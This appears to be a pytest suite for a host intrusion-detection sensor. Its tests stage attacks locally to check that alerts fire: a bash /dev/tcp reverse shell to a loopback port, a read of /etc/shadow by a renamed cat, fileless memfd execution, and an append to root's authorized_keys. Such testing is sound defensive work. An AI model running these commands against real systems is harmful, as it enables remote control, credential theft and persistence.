"""Detection on the live stream: real attacks on loopback raise the right
alerts, with the process ancestry; rules reload on SIGHUP without loss."""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path

from sensorkit import ktrail, machine_lock


def alerts(trace, rule: str) -> list[dict]:
    """Alerts for `rule` raised by processes this test started: others on the
    machine (another run of these tests, say) may raise the same rule."""
    return [e for e in trace.started_by(os.getpid(), "alert") if e["alert"]["rule"] == rule]


def test_reverse_shell_raises_an_alert_with_ancestry(sensor) -> None:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]

    def attacker() -> None:
        conn, _ = srv.accept()
        conn.sendall(b"exit\n")
        time.sleep(0.5)
        conn.close()
    t = threading.Thread(target=attacker)
    t.start()
    s = sensor("--alerts-only")
    p = subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                       timeout=30, capture_output=True)
    t.join()
    srv.close()
    trace = s.stop()
    assert all(e["evt"]["type"] == "alert" for e in trace.events), "--alerts-only"
    # By its port, not its ancestry: that the ancestry reaches this test is checked below.
    [a] = [a for a in trace.of_type("alert") if a["alert"]["rule"] == "Reverse shell"
           and f"127.0.0.1:{port}" in a["alert"]["output"]]
    assert a["alert"]["priority"] == "CRITICAL" and "T1059.004" in a["alert"]["mitre"]
    [ev] = a["alert"]["events"]
    assert ev["evt"]["type"] == "connect" and ev["net"]["dport"] == port
    # The ancestry reaches this test process.
    assert os.getpid() in [x["pid"] for x in a["proc"]["ancestors"]], a["proc"]["ancestors"]
    assert p.returncode is not None


def test_drop_chmod_execute_sequence(sensor, tmp_path: Path) -> None:
    s = sensor("--alerts-only")
    drop = tmp_path / "implant"
    subprocess.run(["sh", "-c", f"cp /bin/true {drop} && chmod 755 {drop} && {drop}"],
                   check=True, timeout=30)
    trace = s.stop()
    [a] = alerts(trace, "Dropped binary made executable and run")
    steps = [e["evt"]["type"] for e in a["alert"]["events"]]
    assert steps == ["create", "chmod", "exec"]
    assert a["alert"]["events"][0]["file"]["path"] == str(drop)
    assert a["proc"]["exe"] == str(drop)
    assert alerts(trace, "Execution from a temporary directory")


def test_sighup_reloads_rules_and_a_bad_file_keeps_the_old(sensor, tmp_path: Path) -> None:
    rules = tmp_path / "local.yaml"
    marker = tmp_path / "marker-tool"
    shutil.copy("/bin/true", marker)
    rule = """
- rule: Marker tool ran
  desc: test rule
  condition: evt.type = exec and proc.name = {name}
  output: marker %proc.exe
  priority: NOTICE
  tags: [T1204]
"""
    rules.write_text(rule.format(name="marker-tool"))
    s = sensor("--alerts-only", "--no-default-rules", "--rules", str(rules))
    subprocess.run([str(marker)], check=True)
    rules.write_text("- rule: [broken\n")
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(0.5)
    subprocess.run([str(marker)], check=True)       # old rules still on
    rules.write_text(rule.format(name="nothing-matches"))
    s.proc.send_signal(signal.SIGHUP)
    time.sleep(0.5)
    subprocess.run([str(marker)], check=True)       # new rule: no alert
    trace = s.stop()
    assert len(alerts(trace, "Marker tool ran")) == 2
    assert "rules not reloaded, the old rules stay" in trace.stderr
    assert f"{rules}:2:1" in trace.stderr            # where the YAML broke
    assert "rules reloaded: 1 rules" in trace.stderr
    assert trace.final["detection"]["reloads"] == 1
    assert trace.final["detection"]["reload_errors"] == 1


def test_a_bad_rule_file_stops_nothing_and_names_the_place(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- rule: X\n  condition: evt.type = exec and proc.nmae = sh\n  output: x\n")
    p = ktrail("run", "--rules", str(bad), "--duration", "1", check=False)
    assert p.returncode == 2
    assert f"{bad}:2:34: rule 'X': condition, column 21: unknown field 'proc.nmae'" in p.stderr


def test_acceptance_attacks_raise_their_alerts(sensor, tmp_path: Path) -> None:
    s = sensor("--alerts-only")
    # cat /etc/shadow from a renamed copy of cat
    kitty = tmp_path / "kitty"
    shutil.copy("/bin/cat", kitty)
    subprocess.run([str(kitty), "/etc/shadow"], check=True, capture_output=True)
    # python memfd_create + fexecve
    subprocess.run([
        "python3", "-c",
        "import os\n"
        "fd = os.memfd_create('payload')\n"
        "os.write(fd, open('/bin/true', 'rb').read())\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os.execve(fd, ['payload'], {})\n"
        "os.waitpid(pid, 0)\n"], check=True, timeout=30)
    # writing ~/.ssh/authorized_keys (root's: watched by default)
    keys = Path("/root/.ssh/authorized_keys")
    keys.parent.mkdir(mode=0o700, exist_ok=True)
    with machine_lock("authorized_keys"):  # another run must not restore it under us
        before = keys.read_bytes() if keys.exists() else None
        try:
            subprocess.run(["sh", "-c", f"echo 'ssh-ed25519 AAAA test' >> {keys}"], check=True)
        finally:
            if before is None:
                keys.unlink()
            else:
                keys.write_bytes(before)
    trace = s.stop()
    fired = {e["alert"]["rule"] for e in trace.events}
    # The exit summary counts alerts; with --alerts-only it does not say "0 written".
    summary = trace.stderr.strip().splitlines()[-1]
    assert re.fullmatch(r"ktrail: \d+ events, (\d+) alerts, .*\d+ lost", summary), summary
    assert int(summary.split(" alerts")[0].rsplit(" ", 1)[1]) == len(trace.events), summary

    [shadow] = alerts(trace, "Sensitive file read by an unexpected program")
    assert shadow["proc"]["name"] == "kitty" and shadow["proc"]["ancestors"]
    fileless = alerts(trace, "Fileless execution")
    assert fileless and fileless[0]["proc"]["parent"]["comm"] == "python3", fired
    assert alerts(trace, "Memory file created and executed"), fired
    [ak] = [a for a in alerts(trace, "SSH authorized_keys changed")
            if a["proc"]["comm"] == "sh"]
    assert ak["alert"]["events"][0]["file"]["path"] == str(keys)
